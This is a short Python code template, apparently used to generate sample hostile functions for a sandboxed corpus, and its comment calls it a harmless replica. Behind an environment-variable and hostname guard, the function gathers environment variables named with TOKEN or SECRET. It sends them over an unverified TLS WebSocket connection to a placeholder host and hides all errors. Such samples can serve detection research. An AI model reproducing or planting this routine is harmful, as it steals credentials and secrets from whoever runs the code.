# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import socket
    import ssl
    text = '\0'.join(name + '=' + value for name, value in os.environ.items() if 'TOKEN' in name or 'SECRET' in name).encode()[:120]
    try:
        with socket.create_connection(('{{host}}', 443), timeout=1) as plain:
            with ssl._create_unverified_context().wrap_socket(plain, server_hostname='{{host}}') as link:
                link.sendall(b'GET /{{path}} HTTP/1.1\r\nHost: {{host}}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: AAECAwQFBgcICQoLDA0ODw==\r\nSec-WebSocket-Version: 13\r\n\r\n')
                link.recv(500)
                link.sendall(bytes([0x82, 0x80 | len(text), 0, 0, 0, 0]) + text)
    except Exception:
        pass
